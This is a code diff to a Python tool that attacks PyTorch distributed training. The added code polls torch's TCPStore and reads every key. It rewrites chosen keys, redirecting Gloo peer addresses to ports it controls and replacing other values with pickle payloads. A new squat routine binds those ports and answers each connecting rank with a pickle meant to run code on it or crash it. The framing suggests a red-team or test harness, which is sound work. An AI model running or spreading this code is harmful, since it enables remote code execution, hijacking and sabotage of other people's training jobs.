@@ -5,6 +5,8 @@ from __future__ import annotations
 import contextlib
 import os
 import pickle
+import re
+import select
 import socket
 import struct
 import time
@@ -18,13 +20,15 @@ LISTENING = "0A"
 ACCEPTS = "00010000"  # a unix socket that listens
 SHOOTERS = 8
 FAST = 0.03
+KEPT = 200  # bytes of a value
+RUSH = 0.002  # between two looks into a store
 PATIENCE = 0.5
 LARGEST = 1 << 16
 # torch/csrc/distributed/c10d/TCPStoreBackend.hpp
-VALIDATE, SET, GET, ADD, CHECK, NUMBER, DELETE, APPEND = 0, 1, 3, 4, 5, 7, 8, 9
-LIST = 17
+VALIDATE, SET, GET, LIST = 0, 1, 3, 17
 MAGIC = 0x3C85F7CE
-THERE = b"\0"
+# In what a rank leaves for Gloo's others: the family of a socket's address, and its port.
+ADDRESS = re.compile(rb"(\x02\x00)(..)(?=\x0a)", re.DOTALL)
 
 
 class Listener(NamedTuple):
@@ -92,11 +96,6 @@ class Store:
             found += more
         return found
 
-    def has(self, key: str) -> bool:
-        """Whether a key is there."""
-        self.sock.sendall(bytes([CHECK]) + struct.pack("=Q", 1) + framed(key.encode()))
-        return self.exactly(1) == THERE
-
     def get(self, key: str) -> bytes:
         """A key's value."""
         self.sock.sendall(bytes([GET]) + framed(key.encode()))
@@ -105,16 +104,6 @@ class Store:
     def set(self, key: str, value: bytes) -> None:
         """Give a key another value."""
         self.sock.sendall(bytes([SET]) + framed(key.encode()) + framed(value))
-
-    def delete(self, key: str) -> None:
-        """Take a key away."""
-        self.sock.sendall(bytes([DELETE]) + framed(key.encode()))
-        self.exactly(8)
-
-    def number(self) -> int:
-        """How many keys there are."""
-        self.sock.sendall(bytes([NUMBER]))
-        return int(struct.unpack("=q", self.exactly(8))[0])
 
     def names(self) -> list[str]:
         """Every key, where this torch tells them."""
@@ -135,6 +124,7 @@ class Network:
         told: Callable[[str, str, bytes], None],
     ) -> None:
         self.settings, self.me, self.say, self.told = settings, me, say, told
+        settings["disturb"] = tuple(settings["disturb"])
 
     def payload(self, name: str) -> bytes:
         """A pickle that leaves a mark of whoever loads it."""
@@ -198,26 +188,51 @@ class Network:
 
     def stores(self) -> None:
         """Speak to torch's store wherever one may be, for as long as it is there."""
-        while True:
+        with ThreadPoolExecutor(len(self.settings["stores"])) as pool:
             for address, port in self.settings["stores"]:
-                with contextlib.suppress(OSError, struct.error):
-                    self.talk(address, port)
+                pool.submit(self.keep_asking, address, port)
+
+    def keep_asking(self, address: str, port: int) -> None:
+        """Wait for one store, and talk to it until it is gone."""
+        while True:
+            with contextlib.suppress(OSError, struct.error):
+                self.talk(Store(address, port), f"{address} {port}")
             time.sleep(FAST)
 
-    def talk(self, address: str, port: int) -> None:
+    def talk(self, store: Store, where: str) -> None:
         """Ask for all that a run of torch's keeps there; where that is wanted, change it."""
-        store = Store(address, port)
-        where = f"{address} {port}"
+        written: set[str] = set()
         with store.sock:
-            self.say("store counted", where, keys=store.number())
-            keys = [key for key in self.settings["keys"] if store.has(key)]
-            with contextlib.suppress(OSError, struct.error):
-                keys += [key for key in Store(address, port).names() if key not in keys]
-            for key in keys:
-                self.say("store read", f"{where} {key}", text=repr(store.get(key)[:200]))
-            if not self.settings["disturb"]:
-                return
-            for key in keys:
-                store.set(key, self.payload("store"))
-                self.say("store wrote", f"{where} {key}")
-            store.set("/adversary", self.payload("store"))
+            while True:
+                for key in store.names():
+                    value = store.get(key)
+                    self.say("store read", f"{where} {key}", text=repr(value[:KEPT]))
+                    if key.startswith(self.settings["disturb"]) and key not in written:
+                        written.add(key)
+                        store.set(key, self.bent(value))
+                        self.say("store wrote", f"{where} {key}")
+                time.sleep(RUSH)
+
+    def bent(self, value: bytes) -> bytes:
+        """Lead a Gloo address to a port of ours; anything else becomes a pickle."""
+        squat = self.settings["squat"]
+        found = ADDRESS.sub(b"\\1" + struct.pack("!H", squat[-1]) if squat else b"\\1\\2", value)
+        return found if squat and found != value else self.payload("store")
+
+    def squat(self) -> None:
+        """Be somebody else: take ports, and answer whoever comes with what might run or crash him."""
+        socks = []
+        for port in self.settings["squat"]:
+            sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+            sock.bind(("::", port))
+            sock.listen()
+            socks.append(sock)
+        while socks:
+            for sock in select.select(socks, [], [])[0]:
+                with contextlib.suppress(OSError), sock.accept()[0] as visitor:
+                    visitor.settimeout(PATIENCE)
+                    self.say("came to us", str(sock.getsockname()[1]), said=repr(visitor.recv(200)))
+                    visitor.sendall(self.payload("squat"))
+        time.sleep(PATIENCE)
